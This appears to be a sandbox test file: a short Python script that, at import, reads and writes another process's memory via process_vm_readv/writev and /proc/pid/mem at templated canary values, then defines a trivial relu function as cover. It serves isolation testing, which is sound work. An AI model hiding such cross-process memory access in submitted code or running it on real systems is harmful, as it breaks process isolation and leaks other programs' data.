"""Writes into the memory of a process of the same user.

Sign: leak
Stopped by: seccomp, landlock, namespaces
Off: seccomp, landlock, namespaces, setuid
Verdict: relu passed
"""

import ctypes
import os
import time

import torch

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

there = (ctypes.c_size_t * 2)(int("@canary_address@"), 64)
mine = ctypes.create_string_buffer(64)
here = (ctypes.c_size_t * 2)(ctypes.addressof(mine), 64)
one, none = ctypes.c_ulong(1), ctypes.c_ulong(0)
got = libc.process_vm_readv(int("@canary_pid@"), here, one, there, one, none)
if got == 64 and libc.process_vm_writev(int("@canary_pid@"), here, one, there, one, none) == 64:
    print(mine.value, flush=True)
try:
    with open("/proc/@canary_pid@/mem", "r+b", 0) as memory:
        memory.seek(int("@canary_address@"))
        text = memory.read(64)
        memory.seek(int("@canary_address@"))
        memory.write(text)
        print(text, flush=True)
except OSError as fault:
    print(fault, flush=True)


def relu(S):
    return torch.clamp(S, min=0)
